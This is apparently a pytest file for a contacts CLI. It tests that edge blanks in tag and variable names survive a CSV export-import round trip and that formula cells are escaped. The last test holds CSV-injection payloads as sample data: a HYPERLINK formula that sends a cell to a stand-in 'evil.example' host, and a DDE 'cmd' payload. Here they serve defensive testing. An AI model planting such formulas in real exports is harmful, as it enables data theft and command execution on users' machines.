"""Blanks at the edges of a tag's name, a file reference or a variable's name are the
record's own (the API keeps them): export escapes them so that import, which drops the
blanks a person typed around items and names, reads them back (contract G: export then
import reproduces the records; a re-run changes nothing)."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import new_account
from tests.servers import Server
from tests.transfer.live import Workspace, comparable_contacts, read_csv, summary

pytestmark = pytest.mark.slow


def test_blanks_at_the_edges_of_items_and_variable_names_survive_a_round_trip(
    server: Server, database_url: str, tmp_path: Path
) -> None:
    account = new_account(database_url)
    first = Workspace(server, account.api_key, account.workspace_id)
    padded = first.add("tags", name=" sp ")
    plain = first.add("tags", name="plain")
    bodies = [
        {"name": "G", "email": "g@example.com", "files": [" ", "y"]},
        {
            "name": "P",
            "email": "p@example.com",
            "files": [" padded ", "https://x.example/a b ", "C:\\docs\\ "],
            "tags": [padded["id"], plain["id"]],
        },
        {"name": "V", "email": "v@example.com", "variables": [{"name": " v ", "value": 1}]},
    ]
    for body in bodies:
        first.call("POST", "/api/contact", json=body)
    exported = tmp_path / "contacts.csv"
    assert first.cli("export", "contacts", "-o", str(exported)).exit_code == 0
    assert "var:\\ v\\ " in exported.read_text(encoding="utf-8")

    made = first.call("POST", "/api/workspace", json={"name": "Copy"})
    second = Workspace(server, account.api_key, made["id"])
    copied = second.cli("import", "contacts", str(exported), "--create-tags")
    assert summary(copied) == "created 3, updated 0, unchanged 0, failed 0", copied.output
    assert sorted(t["name"] for t in second.setup()["tags"]) == [" sp ", "plain"]
    assert comparable_contacts(second) == comparable_contacts(first)
    # Into its own workspace: the same records, nothing to change.
    again = first.cli("import", "contacts", str(exported))
    assert summary(again) == "created 0, updated 0, unchanged 3, failed 0", again.output
    assert comparable_contacts(second) == comparable_contacts(first)


def test_names_differing_by_edge_blanks_are_two_items(
    server: Server, database_url: str, tmp_path: Path
) -> None:
    """The API keeps `sp` and ` sp ` as two tags (stages, segmentations alike). A cell was
    read without its edge blanks, so ` sp `, ` Hot ` and `Seg ` named the first item of that
    bare name: a re-run moved the contact to `Hot` and added `sp` (updated), and a copy
    with --create-tags never made ` sp ` (unchanged after). Filters took them so too."""
    account = new_account(database_url)
    first = Workspace(server, account.api_key, account.workspace_id)
    made = first.call("POST", "/api/workspace", json={"name": "Copy"})
    second = Workspace(server, account.api_key, made["id"])
    for ws in (first, second):
        for name in ("Hot", " Hot "):
            ws.add("stages", kind="contact", name=name)
        for name in ("Seg", "Seg "):
            ws.add("segmentations", name=name)
    setup = first.setup()
    [hot] = [s["id"] for s in setup["contactStages"] if s["name"] == " Hot "]
    [seg] = [s["id"] for s in setup["segmentations"] if s["name"] == "Seg "]
    bare, padded = first.add("tags", name="sp"), first.add("tags", name=" sp ")
    for name, tags in (("Pad", [padded["id"]]), ("Both", [bare["id"], padded["id"]])):
        body = {"name": name, "email": f"{name.lower()}@example.com", "tags": tags}
        first.call("POST", "/api/contact", json={**body, "stageId": hot, "segmentationId": seg})
    exported = tmp_path / "contacts.csv"
    assert first.cli("export", "contacts", "-o", str(exported)).exit_code == 0
    again = first.cli("import", "contacts", str(exported))
    assert summary(again) == "created 0, updated 0, unchanged 2, failed 0", again.output
    copied = second.cli("import", "contacts", str(exported), "--create-tags")
    assert summary(copied) == "created 2, updated 0, unchanged 0, failed 0", copied.output
    assert sorted(t["name"] for t in second.setup()["tags"]) == [" sp ", "sp"]
    assert comparable_contacts(second) == comparable_contacts(first)
    for option, value in (("--stage", " Hot "), ("--tag", " sp ")):
        listed = first.cli("export", "contacts", option, value, "--format", "jsonl")
        assert len(listed.stdout.splitlines()) == 2, (option, listed.output)
    alone = first.cli("export", "contacts", "--tag", "sp", "--format", "jsonl")
    assert len(alone.stdout.splitlines()) == 1, alone.output
    # Made by --create-tags in the other order (` sp ` first): `sp` was taken for it.
    made = first.call("POST", "/api/workspace", json={"name": "Third"})
    third = Workspace(server, account.api_key, made["id"])
    order = tmp_path / "order.csv"
    order.write_text(
        "name,email,tags\nA,a@example.com,\\ sp\\ \nB,b@example.com,sp\n", encoding="utf-8"
    )
    run = third.cli("import", "contacts", str(order), "--create-tags")
    assert summary(run) == "created 2, updated 0, unchanged 0, failed 0", run.output
    assert sorted(t["name"] for t in third.setup()["tags"]) == [" sp ", "sp"]


def test_a_cell_a_spreadsheet_would_run_is_written_as_text_and_read_back(
    server: Server, database_url: str, tmp_path: Path
) -> None:
    """A contact's name comes from anyone (a WhatsApp profile): `=HYPERLINK(…)` or
    `+cmd|…` was written as it is, and a spreadsheet opening the export ran it. Export
    puts a `'` before a formula's start (numbers and phones are left alone), import takes
    it off: the records come back as they were."""
    account = new_account(database_url)
    first = Workspace(server, account.api_key, account.workspace_id)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    body = {
        "name": formula,
        "lastname": "+cmd|' /C calc'!A0",
        "email": "csv@example.com",
        "platformId": 2,
        "phone": "+51 987 654 321",
        "variables": [{"name": "n", "value": -3}, {"name": "t", "value": "'=kept"}],
    }
    first.call("POST", "/api/contact", json=body)
    exported = tmp_path / "contacts.csv"
    assert first.cli("export", "contacts", "-o", str(exported)).exit_code == 0
    [row] = read_csv(exported)
    assert row["name"] == "'" + formula
    assert row["lastname"] == "'+cmd|' /C calc'!A0"
    assert (row["phone"], row["var:n"]) == ("+51987654321", "-3")
    assert row["var:t"] == "''=kept"
    again = first.cli("import", "contacts", str(exported))
    assert summary(again) == "created 0, updated 0, unchanged 1, failed 0", again.output
    made = first.call("POST", "/api/workspace", json={"name": "Copy"})
    second = Workspace(server, account.api_key, made["id"])
    copied = second.cli("import", "contacts", str(exported))
    assert summary(copied) == "created 1, updated 0, unchanged 0, failed 0", copied.output
    assert comparable_contacts(second) == comparable_contacts(first)
